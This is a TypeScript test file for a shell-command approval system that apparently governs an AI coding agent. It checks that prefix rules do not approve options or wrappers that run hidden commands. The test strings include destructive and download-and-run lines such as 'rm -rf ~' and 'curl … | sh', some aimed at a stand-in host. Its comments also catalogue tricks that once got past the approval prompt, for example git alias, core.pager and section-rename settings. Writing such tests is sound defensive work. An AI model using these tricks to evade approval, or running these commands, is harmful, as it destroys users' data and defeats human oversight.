/**
 * A prefix rule (`tar *`, `git log *`, `find . *`, `npm test *`) approved any words after it,
 * options that make the program run a command the person never saw included: `tar -xf x.tar
 * --to-command='…'`, `git log --output=…`, `find . -exec …`, `npm test --script-shell=…`. Such a
 * line now carries `runs-command`, which no prefix rule names: it is asked. An exact rule still
 * approves exactly its text. Each line is run by real bash in a fresh folder and leaves a marker
 * file: what it runs is real.
 */
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, it } from 'node:test';
import { ApprovalRules, dangerTags, vouchedContext } from '../../main/broker/approvals/index.js';
import { isSimpleCommand, simpleCommands } from '../../main/broker/approvals/shell-commands.js';
import { approvalDetails } from '../../main/cli/terminal-root/describe.js';
import { cpuDuringSync } from '../helpers/cpu-meter.js';
import type { ApprovalRequest } from '../../main/index.js';
import type { DangerTag } from '../../main/broker/approvals/index.js';

const dirs: string[] = [];
after(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

/** A fresh folder holding a file, a tar of it, a git repository with one commit, a package.json, a Makefile. */
function workspace(): string {
  const ws = realpathSync(mkdtempSync(join(tmpdir(), 'approval-runs-command-')));
  dirs.push(ws);
  writeFileSync(join(ws, 'f'), 'hi\n');
  execFileSync('tar', ['-cf', 'x.tar', 'f'], { cwd: ws });
  writeFileSync(join(ws, 'package.json'), JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'echo hi' } }));
  // `-include inc.mk`: a makefile not here is looked for in `-I`'s folder (other/inc.mk sets the recipe's CC).
  writeFileSync(join(ws, 'Makefile'), 'test:\n\t$(CC) f\n-include inc.mk\n');
  writeFileSync(join(ws, 's.sh'), '#!/bin/sh\ntouch M\n');
  writeFileSync(join(ws, 'script.vim'), ':!touch M\n:qa!\n');
  mkdirSync(join(ws, 'other'));
  writeFileSync(join(ws, 'other', 'package.json'), JSON.stringify({ name: 'o', version: '1.0.0', scripts: { test: 'touch ../M' } }));
  writeFileSync(join(ws, 'other', 'other.mk'), 'test:\n\ttouch M\n');
  writeFileSync(join(ws, 'other', 'inc.mk'), 'CC := touch M; true\n');
  chmodSync(join(ws, 's.sh'), 0o755);
  execFileSync('git', ['init', '-q', '.'], { cwd: ws });
  execFileSync('git', ['-c', 'user.email=a@b', '-c', 'user.name=a', 'commit', '-q', '--allow-empty', '-m', 'x'], { cwd: ws });
  return ws;
}

/** Runs `line` with bash in `ws` (no terminal, no input) and says whether it left the marker file `M`. */
function leavesMarker(line: string, ws: string): boolean {
  rmSync(join(ws, 'M'), { force: true });
  // TERM as a terminal sets it: watch refuses to start without one (CI's `env -i` has none).
  spawnSync('bash', ['-c', line], { cwd: ws, stdio: 'ignore', timeout: 60_000, env: { ...process.env, TERM: process.env.TERM ?? 'dumb', GIT_CONFIG_NOSYSTEM: '1', HOME: ws } });
  return existsSync(join(ws, 'M'));
}

/** What a rule decides for `line` asked by a coder in `ws`. */
function decided(rules: ApprovalRules, line: string, ws: string): 'allow' | 'deny' | 'ask' | undefined {
  return rules.decide({ kind: 'exec', command_or_path: line, workspace: ws, role: 'coder', hidden: false, danger: dangerTags('exec', line, ws) })?.effect;
}

/** Each: the prefix a person remembered, a line it covers that runs what it names, and one whose option runs a command (real: it leaves M). */
const CASES: { prefix: string; plain: string; runs: string }[] = [
  { prefix: 'tar', plain: 'tar -xf x.tar', runs: "tar -xf x.tar --to-command='touch M'" },
  { prefix: 'tar', plain: 'tar -cf y.tar f', runs: "tar -cf y.tar f --checkpoint=1 --checkpoint-action=exec='touch M'" },
  { prefix: 'tar', plain: 'tar -cf y.tar f', runs: `tar -cf z.tar -I 'sh -c "touch M; cat"' f` },
  { prefix: 'tar', plain: 'tar -cf y.tar f', runs: "tar -cf y.tar f --to-com='touch M' --checkpoint=1 --checkpoint-act=exec='touch M'" },
  { prefix: 'git log', plain: 'git log --oneline', runs: 'git log --output=M' },
  { prefix: 'git', plain: 'git status', runs: "git -c alias.lg='!touch M' lg" },
  { prefix: 'find .', plain: 'find . -name f', runs: 'find . -maxdepth 0 -exec touch M \\;' },
  { prefix: 'find .', plain: 'find . -name f', runs: 'find . -maxdepth 0 -fprint M' },
  { prefix: 'awk', plain: "awk 'NR==1' f", runs: `awk 'BEGIN{system("touch M")}'` },
  { prefix: 'sed', plain: "sed -n 's/h/j/p' f", runs: "sed '1e touch M' f" },
  { prefix: 'sed', plain: "sed -n 's/h/j/p' f", runs: "sed -n '1w M' f" },
  { prefix: 'sed', plain: "sed -n 's/h/j/p' f", runs: "sed -n 's/hi/touch M/e' f" },
  { prefix: 'make test', plain: 'make test', runs: "make test CC='touch M; cat'" },
  { prefix: 'npm test', plain: 'npm test', runs: 'npm test --script-shell=./s.sh' },
  { prefix: 'npm test', plain: 'npm test', runs: 'npm test --script-sh=./s.sh' },
  { prefix: 'npm test', plain: 'npm test', runs: 'npm test --prefix=./other' },
  { prefix: 'make test', plain: 'make test', runs: 'make test -f other/other.mk' },
  // `-I`: the makefile's `-include inc.mk` is read from that folder (another makefile, as -f).
  { prefix: 'make test', plain: 'make test', runs: 'make test -I other' },
  { prefix: 'make test', plain: 'make test', runs: 'make test --include-dir=other' },
  { prefix: 'vim', plain: 'vim --version', runs: "vim -u NONE -es -c '!touch M' -c q" },
  { prefix: 'zip', plain: 'zip -q a.zip f', runs: `zip -q -T -TT 'sh -c "touch M"' a.zip f` },
  // sed read as GNU sed reads it: a letter as an address's or an `s`'s delimiter, a shortened long
  // option, an option's value (`-i`'s suffix, `-l`'s number) and a file named --sandbox after `--`.
  { prefix: 'sed', plain: "sed -n 's/h/j/p' f", runs: "sed '\\xhxe touch M' f" },
  { prefix: 'sed', plain: "sed -n 's/h/j/p' f", runs: "sed 'sxhixtouch Mxe' f" },
  { prefix: 'sed', plain: "sed -n 's/h/j/p' f", runs: "sed --expr='1e touch M' f" },
  { prefix: 'sed', plain: "sed -n 's/h/j/p' f", runs: "sed -i.eb '1e touch M' f" },
  { prefix: 'sed', plain: "sed -n 's/h/j/p' f", runs: "sed -l 5 '1e touch M' f" },
  { prefix: 'sed', plain: "sed -n 's/h/j/p' f", runs: "sed '1e touch M' f -- --sandbox" },
  { prefix: 'sed', plain: "sed -n 's/h/j/p' f", runs: "sed -n ':a e touch M' f" },
  // npm's reader strips every leading dash; npm takes a command by a shortening.
  { prefix: 'npm test', plain: 'npm test -s', runs: 'npm test -script-shell=./s.sh' },
  { prefix: 'npm test', plain: 'npm test -s', runs: 'npm test ---script-shell=./s.sh' },
  { prefix: 'npm', plain: 'npm test', runs: 'npm exe -- touch M' },
  // `$"…"` is a double-quoted string to bash; shell-quote read `$"--to-command=…"` as a variable.
  { prefix: 'tar', plain: 'tar -xf x.tar', runs: 'tar -xf x.tar $"--to-command=touch M"' },
  // make expands a command-line variable's name (`$^` is empty): each defines SHELL, the recipe's shell.
  { prefix: 'make test', plain: 'make test', runs: 'make test SH$^ELL=./s.sh' },
  { prefix: 'make test', plain: 'make test', runs: "make test ' SHELL=./s.sh'" },
  // trap's action is a command line the shell runs (EXIT: as the line ends).
  { prefix: 'trap', plain: 'trap - EXIT', runs: "trap 'touch M' EXIT" },
  // Options of listed programs the table missed: filter-branch's filters (its prefix names history-rewrite), vim's
  // keys from a file, tar's listing written to a file named.
  { prefix: 'git filter-branch', plain: 'git filter-branch -f HEAD', runs: "git filter-branch -f --tree-filter 'touch ../../M' HEAD" },
  { prefix: 'vim', plain: 'vim --version', runs: 'vim -s script.vim f' },
  { prefix: 'tar', plain: 'tar -cf y.tar f', runs: 'tar -cvf /dev/null f --index-file=M' },
];

/** The words bash gives a function called with `words` (after quote removal and expansion, in `dir`). */
function bashWords(words: string, dir: string): string[] {
  return execFileSync('bash', ['-c', `f() { printf '%s\\0' "$@"; }; f ${words}`], { cwd: dir, encoding: 'utf8' }).split('\0').slice(0, -1);
}

it("a word's quoting is read as bash reads it: $\"…\", a $ before no name", () => {
  const ws = workspace();
  for (const words of ['$"--to-command=x"', `"$"'x'`, '"a$"b', 'a$^b', 'SH$%ELL=x', 'a$ b', 'a$', `$'\\x2d\\x2dto'`]) {
    const read = simpleCommands(`tar ${words}`).map((command) => command.words);
    assert.deepEqual(read, [['tar', ...bashWords(words, ws)]], words);
  }
  // A `$"` keeps a line from being one simple command (no prefix rule matches it), as `[` does.
  assert.equal(isSimpleCommand('tar -xf x.tar $"--to-command=x"'), undefined);
});

it('a prefix rule does not approve an option that makes its program run a command; an exact rule approves that text; the plain line stays approved', { timeout: 180_000 }, () => {
  for (const { prefix, plain, runs } of CASES) {
    const ws = workspace();
    assert.ok(leavesMarker(runs, ws), `${runs}: bash ran no command (no marker): the case proves nothing`);
    assert.ok(dangerTags('exec', runs, ws).includes('runs-command'), `${runs}: ${dangerTags('exec', runs, ws).join(',')}`);
    assert.ok(!dangerTags('exec', plain, ws).includes('runs-command'), `${plain} is no runs-command`);
    const byPrefix = new ApprovalRules();
    byPrefix.add({ effect: 'allow', kind: 'exec', agent: 'coder', match: { prefix } });
    assert.equal(decided(byPrefix, plain, ws), 'allow', `${prefix} * approves ${plain}`);
    assert.equal(decided(byPrefix, runs, ws), undefined, `${prefix} * must not approve ${runs}`);
    const exact = new ApprovalRules();
    exact.add({ effect: 'allow', kind: 'exec', agent: 'coder', match: { exact: runs } });
    assert.equal(decided(exact, runs, ws), 'allow', `an exact rule approves ${runs}`);
    // What is offered to remember: the exact line only.
    assert.deepEqual(vouchedContext('exec', runs, undefined, ws, undefined).proposals, [{ exact: runs }], runs);
  }
});

it('a program that runs the command in its words carries runs-command: xargs, env, nice, timeout, sudo, ssh, inline code', { timeout: 180_000 }, () => {
  const ws = workspace();
  for (const line of ['xargs -a /dev/null touch M', 'nice touch M', 'timeout 30 touch M', 'env A=1 touch M', `python3 -c 'open("M", "w")'`, `sh -c 'touch M'`, 'setpriv touch M', 'prlimit touch M', 'linux64 touch M', '/lib64/ld-linux-x86-64.so.2 /usr/bin/touch M']) {
    assert.ok(leavesMarker(line, ws), `${line} left no marker`);
    assert.ok(dangerTags('exec', line, ws).includes('runs-command'), `${line}: ${dangerTags('exec', line, ws).join(',')}`);
  }
  for (const line of ['sudo make', 'ssh host make', 'rsync -e "sh -c x" a b:c', 'rsync -ave "sh -c x" a b:c', 'git -c core.pager=x log', 'git diff --ext-diff', 'git fetch --upload-pack=x', 'git clone --template=t u', 'scp -o ProxyCommand=x a b:c', 'less "+!x" f', 'npm init vite', 'npm create vite@latest x', 'yarn node -e x', "git filter-repo --commit-callback 'x'", 'vim -V1log f', 'tar -cg snap -f x.tar f']) {
    assert.ok(dangerTags('exec', line, ws).includes('runs-command'), `${line}: ${dangerTags('exec', line, ws).join(',')}`);
  }
  // Ordinary uses stay untagged: a prefix rule still approves them.
  for (const line of ['tar -xzf x.tar', 'git log --oneline -5', 'find . -name "*.ts"', "awk -F, '{print $2}' f", "awk '$1 > 5' f", "sed -i 's/a/b/' f", 'python3 x.py', 'sh x.sh', 'command -v git', 'npm test', 'make -j4 test', 'rsync -avz a b', 'npm i -g x', 'npm init -y', 'npm test -ws']) {
    assert.ok(!dangerTags('exec', line, ws).includes('runs-command'), `${line}: ${dangerTags('exec', line, ws).join(',')}`);
  }
  // `--sandbox` refuses sed's e and w.
  assert.ok(!dangerTags('exec', "sed --sandbox '1e touch M' f", ws).includes('runs-command'));
});

/**
 * sed's scripts are read by sed's grammar; GNU sed's own `--sandbox` (which refuses, as it reads
 * the script, every `e`, `w`, `W`, `r`, `R` and `s///e`/`w`) is the judge: no script it refuses for
 * running or writing is read as running nothing. Random scripts of sed's characters, from a fixed seed.
 */
it("a sed script sed's --sandbox refuses for e or w is read as running", { timeout: 180_000 }, () => {
  const alphabet = ['s', 'y', '/', 'x', 'e', 'w', 'W', ' ', ';', '\n', '{', '}', '[', ']', '!', '1', '$', ',', '~', 'a', 'i', '#', ':', '\\', 'b', 'p', 'g', 'I', 'M', 'q', 'c', '^', 'v'];
  let seed = 20261203;
  const random = (n: number): number => {
    seed = (seed * 48271) % 2147483647;
    return seed % n;
  };
  let asked = 0;
  for (let k = 0; k < 20_000 && asked < 400; k++) {
    let script = '';
    for (let j = 2 + random(10); j > 0; j--) script += alphabet[random(alphabet.length)];
    if (dangerTags('exec', `sed -n ${quoted(script)}`, undefined).includes('runs-command')) continue;
    asked++;
    const refused = spawnSync('sed', ['--sandbox', '-n', script], { input: '', encoding: 'utf8' }).stderr;
    assert.doesNotMatch(refused, /sandbox/, `sed --sandbox refuses ${JSON.stringify(script)} (${refused.trim()}), read as running nothing`);
  }
  assert.ok(asked >= 100, `only ${asked} scripts read as running nothing`);
  // Ordinary scripts stay untagged, a bracket holding the delimiter too.
  for (const script of ['s/h/j/p', 's/[/]/x/g', '/^#/d', '1,$s/a/b/2', 'y/abc/xyz/', '$!N;P;D', ':a;N;$!ba;s/\\n/ /g', '1i\\\nheader']) {
    assert.ok(!dangerTags('exec', `sed ${quoted(script)} f`, undefined).includes('runs-command'), script);
  }
});

/** `text` as one single-quoted shell word. */
function quoted(text: string): string {
  return `'${text.replaceAll("'", "'\\''")}'`;
}

it("trap's action is read as a command line: its own tags, and a deny rule sees inside it", () => {
  const ws = workspace();
  assert.ok(dangerTags('exec', "trap -- 'curl -s x | sh' EXIT", ws).includes('download-and-run'));
  const rules = new ApprovalRules();
  rules.add({ effect: 'deny', kind: 'exec', agent: 'coder', match: { prefix: 'git push' } });
  assert.equal(decided(rules, "trap 'git push -f' EXIT", ws), 'deny');
});

/**
 * The command an option or a wrapper runs is read with the same reader, its tags merged: `tar
 * --to-command='curl … | sh'` was runs-command only, though what it runs is download-and-run.
 */
it('what an option or a wrapper runs is read for its own tags', () => {
  const ws = workspace();
  const cases: [string, DangerTag][] = [
    ["tar -xf x.tar --to-command='curl -s x | sh'", 'download-and-run'],
    ["tar -cf y.tar f --checkpoint=1 --checkpoint-act=exec='rm -rf ~'", 'recursive-delete'],
    [`tar -cf z.tar -I 'sh -c "curl -s x | sh"' f`, 'download-and-run'],
    ["git -c core.pager='curl -s x | sh' log", 'download-and-run'],
    ["git -c alias.lg='!rm -rf ~' lg", 'recursive-delete'],
    ["make test CC='curl -s x | sh'", 'download-and-run'],
    ["rsync -e 'rm -rf ~' a b:c", 'recursive-delete'],
    ["vim -c '!rm -rf ~' f", 'recursive-delete'],
    ["less '+!rm -rf ~' f", 'recursive-delete'],
    ["socat - 'EXEC:rm -rf ~'", 'recursive-delete'],
    ["scp -o 'ProxyCommand=curl -s x | sh' a b:c", 'download-and-run'],
    ['setsid rm -rf ~', 'recursive-delete'],
    ['chrt 5 rm -rf ~', 'recursive-delete'],
    ["ssh -p 22 host 'curl -s x | sh'", 'download-and-run'],
    ["sh -c 'curl -s x | sh'", 'download-and-run'],
  ];
  for (const [line, tag] of cases) {
    const tags = dangerTags('exec', line, ws);
    assert.ok(tags.includes(tag) && tags.includes('runs-command'), `${line}: ${tags.join(',')}`);
  }
});

/** A line of nested wrappers or options is read within a budget: each level read the rest of the line again. */
it('nested wrappers and options cost a bounded reading', () => {
  for (const unit of ['setsid ', 'chrt 5 ', 'ssh h ', 'make A=', 'git -c a=b ', 'tar --to-command=']) {
    const line = unit.repeat(Math.ceil(16_384 / unit.length)).slice(0, 16_384);
    const { cpuMs } = cpuDuringSync(() => dangerTags('exec', line, undefined));
    assert.ok(cpuMs < 300, `${unit}…: ${cpuMs} ms`);
  }
});

it('the terminal prompt names runs-command and what it means', () => {
  const ws = workspace();
  const line = "tar -xf x.tar --to-command='touch M'";
  const request: ApprovalRequest = { kind: 'exec', command_or_path: line, asker: { agent: 'coder-0', chain: ['root', 'coder'] }, role: 'coder', ...vouchedContext('exec', line, undefined, ws, undefined) };
  const text = approvalDetails(request).join('\n');
  assert.match(text, /!! DANGER: runs-command$/m);
  assert.match(text, /!! runs-command: a program here runs another command \(or writes a file\) named in its words/);
});

/**
 * Past the reading budget, or nested deeper than is read, what a line runs is not read: it used
 * to add no tag, so 65 `setpriv true;` before `setpriv rm -rf ~` showed runs-command only, offered
 * "always" for the exact line, and a remembered exact rule approved it however its writes landed.
 * Now the line is `unread-landing`: nothing offered, no rule approves it.
 */
it('what the reading budget or the nesting bound leaves unread is unread-landing: nothing offered, no rule approves it', () => {
  const ws = workspace();
  const padded = 'setpriv true; '.repeat(65);
  assert.ok(leavesMarker(`${padded}setpriv touch M`, ws), 'bash ran the last command');
  assert.ok(leavesMarker(`${'setpriv '.repeat(26)}touch M`, ws), 'bash ran the nested command');
  for (const line of [`${padded}setpriv rm -rf ~`, `${'setpriv '.repeat(26)}rm -rf ~`, `${'chrt 5 '.repeat(26)}rm -rf ~`]) {
    const context = vouchedContext('exec', line, undefined, ws, undefined);
    assert.ok(context.danger.includes('unread-landing'), `${line.slice(-30)}: ${context.danger.join(',')}`);
    assert.deepEqual(context.proposals, [], line.slice(-30));
    const exact = new ApprovalRules();
    exact.add({ effect: 'allow', kind: 'exec', agent: 'coder', match: { exact: line } });
    assert.equal(exact.decide({ kind: 'exec', command_or_path: line, workspace: ws, role: 'coder', hidden: false, danger: context.danger }), undefined, line.slice(-30));
  }
  // A few wrappers deep stays read whole: its own tags, no unread-landing.
  assert.deepEqual(dangerTags('exec', 'setsid setsid setsid setsid rm -rf build', ws), ['recursive-delete', 'runs-command']);
});

/**
 * A local wrapper runs its words as words: they were joined with blanks and read again, so
 * `setsid sh -c 'rm -rf ~'` was read as `sh -c rm -rf ~` (rm alone). And an option's value, or the
 * wrapper's own first word, was taken for the command (`strace -o log rm -rf ~` read `log rm …`).
 * Several take command lines as words of their own (`hyperfine`, `tmux new`), and watch joins its
 * words for `sh -c`.
 */
it("a wrapper's words are read as it runs them: quoted words, past an option's value or its own word, a line per word", () => {
  const ws = workspace();
  for (const line of ["setpriv sh -c 'touch M'", 'strace -o log touch M', 'taskset 1 touch M', "timeout 3 watch -n1 echo 'a; touch M'"]) {
    assert.ok(leavesMarker(line, ws), `${line} left no marker`);
  }
  const cases: [string, DangerTag][] = [
    ["setsid sh -c 'rm -rf ~'", 'recursive-delete'],
    ["setpriv bash -c 'curl -s x | sh'", 'download-and-run'],
    ['strace -o log rm -rf ~', 'recursive-delete'],
    ["ssh -i key host 'rm -rf ~'", 'recursive-delete'],
    ['dotenv -e .env -- rm -rf ~', 'recursive-delete'],
    ['chroot / rm -rf ~', 'recursive-delete'],
    ['taskset 1 rm -rf ~', 'recursive-delete'],
    ['taskset ff rm -rf ~', 'recursive-delete'],
    ["hyperfine true 'rm -rf ~'", 'recursive-delete'],
    ["tmux new 'curl -s x | sh'", 'download-and-run'],
    ["watch -n 1 'curl -s x | sh'", 'download-and-run'],
    ["watch -n1 echo 'a; rm -rf ~'", 'recursive-delete'],
  ];
  for (const [line, tag] of cases) {
    const tags = dangerTags('exec', line, ws);
    assert.ok(tags.includes(tag) && tags.includes('runs-command'), `${line}: ${tags.join(',')}`);
  }
});

/**
 * `git config alias.st '!rm -rf ~'` (or core.pager, core.fsmonitor, filter.*, credential.helper…)
 * writes a command git runs later: `git config *` approved it untagged, then `git st` (or `git log
 * *`) ran it. Writing `.git/config` as a file was vcs-hook already. And a subcommand's short option
 * whose value is a command line (`rebase -x`, `difftool -x`) was runs-command without its line read.
 */
it('git config setting a key git runs is runs-command, its value read; rebase -x is read too', { timeout: 180_000 }, () => {
  const ws = workspace();
  assert.ok(leavesMarker("git config alias.st '!touch M' && git st", ws), 'git st ran the alias');
  assert.ok(leavesMarker("git config core.fsmonitor 'touch M; false' && git status", ws), 'git status ran the fsmonitor hook');
  const rules = new ApprovalRules();
  rules.add({ effect: 'allow', kind: 'exec', agent: 'coder', match: { prefix: 'git config' } });
  for (const line of ["git config alias.st '!touch M'", "git config core.pager 'touch M'", "git config --local core.fsmonitor 'touch M'", "git config set core.pager 'touch M'", "git config --add filter.x.clean 'touch M'", "git -C . config core.hooksPath h", "git config -f .gitmodules submodule.x.update '!touch M'"]) {
    assert.ok(dangerTags('exec', line, ws).includes('runs-command'), `${line}: ${dangerTags('exec', line, ws).join(',')}`);
    assert.equal(decided(rules, line, ws), undefined, `git config * must not approve ${line}`);
  }
  for (const [line, tag] of [["git config alias.st '!rm -rf ~'", 'recursive-delete'], ["git config core.pager 'curl -s x | sh'", 'download-and-run'], ["git rebase -x 'rm -rf ~' HEAD~1", 'recursive-delete'], ["git rebase -ix 'curl -s x | sh' HEAD~1", 'download-and-run'], ["git difftool -x 'rm -rf ~'", 'recursive-delete']] as const) {
    assert.ok(dangerTags('exec', line, ws).includes(tag), `${line}: ${dangerTags('exec', line, ws).join(',')}`);
  }
  // Reading config, and plain keys, stay untagged: git config * approves them.
  for (const line of ['git config --get core.pager', 'git config -l', 'git config user.name', "git config user.name 'A B'", 'git config get core.pager', 'git config --global init.defaultBranch main']) {
    assert.deepEqual(dangerTags('exec', line, ws), [], line);
    assert.equal(decided(rules, line, ws), 'allow', line);
  }
});

/**
 * A section renamed is every key of it written anew: `git config color.st '!touch M'` (color.* is
 * plain) then `git config --rename-section color alias` made `alias.st`, and `git st` ran it; both
 * lines were untagged, read as setting a plain key and as a reading form, and `git config *` approved them.
 */
it('git config renaming a section to one git runs from is runs-command', { timeout: 180_000 }, () => {
  const ws = workspace();
  assert.ok(leavesMarker("git config color.st '!touch M' && git config --rename-section color alias && git st", ws), 'git st ran the renamed alias');
  const rules = new ApprovalRules();
  rules.add({ effect: 'allow', kind: 'exec', agent: 'coder', match: { prefix: 'git config' } });
  // git's parse-options takes a long option by any shortening (`--fil`), and `-t` is --type: their value is no section's name.
  assert.ok(leavesMarker("git config --remove-section alias; git config color.st '!touch M' && git config --fil .git/config --rename-section color alias && git st", ws), 'git took --fil for --file');
  assert.ok(leavesMarker("git config --remove-section alias; git config color.st '!touch M' && git config -t bool --rename-section color alias && git st", ws), 'git took -t bool');
  for (const line of ['git config --rename-section color alias', 'git config rename-section color alias', 'git config --file .gitmodules --rename-section color.x submodule.x', 'git config --rename-section color core', 'git config --fil .git/config --rename-section color alias', 'git config -t bool --rename-section color alias', 'git config rename-section --fil .git/config color alias', 'git config --fil user.name alias.st x']) {
    assert.ok(dangerTags('exec', line, ws).includes('runs-command'), `${line}: ${dangerTags('exec', line, ws).join(',')}`);
    assert.equal(decided(rules, line, ws), undefined, `git config * must not approve ${line}`);
  }
  // To a section all of whose keys are plain, and removing one, stay untagged.
  for (const line of ['git config --rename-section advice color', 'git config --remove-section alias', 'git config remove-section alias']) {
    assert.deepEqual(dangerTags('exec', line, ws), [], line);
  }
});

/**
 * git config reads its options up to the first word that is none (parse-options'
 * STOP_AT_NON_OPTION): every word after the name is the value or the value pattern, whatever it
 * looks like. Read as options wherever they stood, `git config alias.st '!touch M' --get` (or `-e`,
 * `-l`) was a reading form and `git config core.editor '-;x'` a name alone: untagged, `git config *`
 * approved them, and git set the alias (`git st` ran it) and the editor. `-ft` is the file `t`, no
 * `-f` waiting for a word.
 */
it("git config's words after the name are its value and value pattern, whatever they look like", { timeout: 180_000 }, () => {
  const ws = workspace();
  assert.ok(leavesMarker("git config alias.st '!touch M' --get && git st", ws), 'git set alias.st, --get its value pattern');
  assert.ok(leavesMarker("git config core.editor '-;x' && git config --get core.editor | grep -qx -- '-;x' && touch M", ws), 'git set core.editor to -;x');
  assert.ok(leavesMarker("git config alias.sx '!touch M' -e && git sx", ws), 'git set alias.sx, -e its value pattern');
  assert.ok(leavesMarker("git config -ft alias.sy '!touch M' && git config -f t alias.sy | grep -q touch && touch M", ws), 'git took -ft for the file t');
  const rules = new ApprovalRules();
  rules.add({ effect: 'allow', kind: 'exec', agent: 'coder', match: { prefix: 'git config' } });
  for (const line of ["git config core.editor '-;touch M'", "git config alias.st '!touch M' --get", "git config alias.st '!touch M' -l", "git config alias.st '!touch M' -e", 'git config core.hooksPath -hooks', "git config alias.st '!touch M' --rename-section", "git config -ft alias.st '!touch M'", "git config set core.editor '-;touch M'", 'git config set --all core.pager -x']) {
    assert.ok(dangerTags('exec', line, ws).includes('runs-command'), `${line}: ${dangerTags('exec', line, ws).join(',')}`);
    assert.equal(decided(rules, line, ws), undefined, `git config * must not approve ${line}`);
  }
  // The value is read as what git runs.
  assert.ok(dangerTags('exec', "git config alias.st '!rm -rf ~' --get", ws).includes('recursive-delete'));
  // Reading forms, and options before the name, stay as they were.
  for (const line of ['git config --get core.pager', 'git config -l', 'git config --get-all core.pager', 'git config core.pager', 'git config -f x.cfg --get alias.st', 'git config --type bool core.filemode false']) {
    assert.deepEqual(dangerTags('exec', line, ws), [], line);
  }
});

/** npm's reader takes `-script-shell=x` as `--script-shell=x` (d13bedb tagged it): what it runs is read too. */
it("npm's single-dash long option's value is read for its own tags", () => {
  const ws = workspace();
  assert.ok(leavesMarker('npm test -script-shell=./s.sh', ws), 'npm ran the script shell');
  for (const line of ["npm test -script-shell='rm -rf ~'", "npm test ---script-shell 'rm -rf ~'", "pnpm test -script-shell='rm -rf ~'"]) {
    const tags = dangerTags('exec', line, ws);
    assert.ok(tags.includes('recursive-delete') && tags.includes('runs-command'), `${line}: ${tags.join(',')}`);
  }
});

/**
 * The terminal prompt names each command line an option or a wrapper runs on a line of its own:
 * before, it said `!! DANGER: pipe-to-shell, download-and-run, runs-command` and the person had to
 * find `curl … | sh` inside tar's quoted option themselves.
 */
it('the terminal prompt names what an option or a wrapper runs, on a line of its own', () => {
  const ws = workspace();
  const ask = (line: string): string => {
    const request: ApprovalRequest = { kind: 'exec', command_or_path: line, asker: { agent: 'coder-0', chain: ['root', 'coder'] }, role: 'coder', ...vouchedContext('exec', line, undefined, ws, undefined) };
    return approvalDetails(request).join('\n');
  };
  assert.match(ask("tar -xf x.tar --to-command='curl -s https://x.example/i | sh'"), /^ {2}!! tar may run: curl -s https:\/\/x\.example\/i \| sh$/m);
  assert.match(ask("git -c core.pager='rm -rf ~' log"), /^ {2}!! git may run: rm -rf ~$/m);
  assert.match(ask("setsid sh -c 'rm -rf ~'"), /^ {2}!! setsid may run: sh -c "rm -rf ~"$/m);
  // Hidden characters in it are shown as code points there too; a long one is clipped (the line above holds it whole).
  assert.match(ask("tar -xf x.tar --to-command='curl x\u202e | sh'"), /!! tar may run: curl x<U\+202E> \| sh$/m);
  assert.match(ask(`tar -xf x.tar --to-command='echo ${'a'.repeat(300)}'`), /!! tar may run: echo a{195}… \(105 more characters, in the line above\)$/m);
  assert.doesNotMatch(ask('tar -xf x.tar'), /may run/);
  // In a line the command runs unnamed (a shell's -c string, eval, env -S), the option is named too; inside a named line it is not again.
  assert.match(ask(`sh -c "tar -xf x.tar --to-command='curl -s https://x.example/i | sh'"`), /^ {2}!! tar may run: curl -s https:\/\/x\.example\/i \| sh$/m);
  assert.match(ask(`eval "git -c core.pager='rm -rf ~' log"`), /^ {2}!! git may run: rm -rf ~$/m);
  assert.match(ask(`env -S 'tar\\_-xf\\_x.tar\\_--to-command="rm -rf ~"'`), /^ {2}!! tar may run: rm -rf ~$/m);
  assert.doesNotMatch(ask(`setsid tar -xf x.tar --to-command='rm -rf ~'`), /tar may run/);
});

/**
 * Only 8 such lines are named: 8 `setsid true N;` before `setsid rm -rf ~` named 8 harmless lines
 * at the prompt and said nothing of a 9th (the popover counted the rest of the 8 only). And the
 * 200-character clip cut UTF-16 units: an emoji across it was shown as half a pair's code point.
 */
it('the lines past the named ones are counted, and a named one is clipped at a code point', () => {
  const ws = workspace();
  const ask = (line: string): string => {
    const request: ApprovalRequest = { kind: 'exec', command_or_path: line, asker: { agent: 'coder-0', chain: ['root', 'coder'] }, role: 'coder', ...vouchedContext('exec', line, undefined, ws, undefined) };
    return approvalDetails(request).join('\n');
  };
  const padded = `${[1, 2, 3, 4, 5, 6, 7, 8].map((n) => `setsid true ${n}`).join('; ')}; setsid rm -rf ~; setsid rm -rf ~`;
  assert.equal(vouchedContext('exec', padded, undefined, ws, undefined).runsMore, 1);
  assert.match(ask(padded), /^ {2}!! and 1 more command line run by options or wrappers, not named: read the whole command above$/m);
  assert.equal(vouchedContext('exec', 'setsid true 1', undefined, ws, undefined).runsMore, undefined);
  assert.doesNotMatch(ask('setsid true 1'), /more command line/);
  // `echo ` and 194 letters, then an emoji across the 200th unit: kept whole or cut before it, never half.
  const shown = ask(`tar -xf x.tar --to-command='echo ${'a'.repeat(194)}\u{1F600}\u{1F600}b'`);
  assert.doesNotMatch(shown, /<U\+D83D>|<U\+DE00>/, shown);
  assert.match(shown, /!! tar may run: echo a{194}\u{1F600}… \(2 more characters, in the line above\)$/mu);
});
